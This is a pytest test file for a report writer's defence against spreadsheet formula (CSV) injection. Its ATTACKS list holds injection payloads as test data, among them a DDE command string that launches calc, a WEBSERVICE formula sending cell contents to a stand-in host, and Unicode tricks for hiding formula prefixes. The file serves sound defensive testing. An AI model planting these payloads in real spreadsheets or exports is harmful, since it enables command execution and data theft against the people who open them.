"""Nothing that a spreadsheet would compute leaves the house as anything but text.

The corpus is of what is known to run in Excel, LibreOffice or Google Sheets (OWASP:
CSV Injection), and of the ways in which such beginnings are hidden.
"""

import csv
from io import BytesIO, StringIO

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from xlsxwriter import Workbook

from consult.reports.defusing import defused
from consult.reports.writing import Sheet, csv_of, spreadsheet_of

ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://a.example","click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "＝1+1",
    "－1+1",
    "＋1+1",
    "＠SUM(1)",
    "−1+1",
    "|calc",
    "%0A=1+1",
    "\x00=1+1",
    "\x1f=1+1",
    '=WEBSERVICE("http://a.example/"&A1)',
    '=IMPORTXML("http://a.example","//a")',
]
HARMLESS = ["", "હા", "Yes", "a=b", "1,204", "'quoted'", "“−”", "5 - 3"]
BEGINNINGS = "=+-@＝＋－＠−|%"


def read_back(text):
    """Return the cell that a spreadsheet of the text has, as openpyxl reads it."""
    sheet = Sheet("One", ["a"], [10], [[text]])
    book = load_workbook(BytesIO(spreadsheet_of([sheet], title="T")))
    return book.active["A2"]


def read_back_csv(text):
    content = csv_of(["a"], [[text]]).decode("utf-8-sig")
    return list(csv.reader(StringIO(content)))[1][0]


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_spreadsheet_would_compute_is_text(attack):
    cell = read_back(attack)

    assert cell.data_type == "s"
    assert cell.value.startswith("'")
    assert read_back_csv(attack).startswith("'")


@pytest.mark.parametrize("words", HARMLESS)
def test_harmless_words_stay_as_they_are(words):
    assert defused(words) == words
    assert read_back_csv(words) == words


def test_a_plain_writer_would_have_written_formulas():
    file = BytesIO()
    with Workbook(file, {"in_memory": True}) as book:
        book.add_worksheet().write(0, 0, ATTACKS[0])

    assert load_workbook(file).active["A1"].data_type == "f"
    assert ATTACKS[0][0] in BEGINNINGS


@settings(max_examples=300, deadline=None)
@given(
    st.text(st.sampled_from(" \t\r\n\0\u200b\u00a0\ufeff"), max_size=3),
    st.sampled_from(BEGINNINGS),
    st.text(max_size=20),
)
def test_generated_beginnings_are_defused(blank, beginning, rest):
    assert defused(blank + beginning + rest).startswith("'")


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=40))
def test_any_text_comes_back_as_text_and_never_as_a_formula(text):
    cell = read_back(text)

    assert cell.data_type in ("s", "n")
    assert not isinstance(cell.value, int | float)
    assert (cell.value or "")[:1] not in tuple(BEGINNINGS)
    assert read_back_csv(text)[:1] not in tuple(BEGINNINGS)


def test_numbers_stay_numbers():
    sheet = Sheet("One", ["a", "b"], [10, 10], [[-5, 2.5]])
    page = load_workbook(BytesIO(spreadsheet_of([sheet], title="T"))).active

    assert [page["A2"].value, page["B2"].value] == [-5, 2.5]
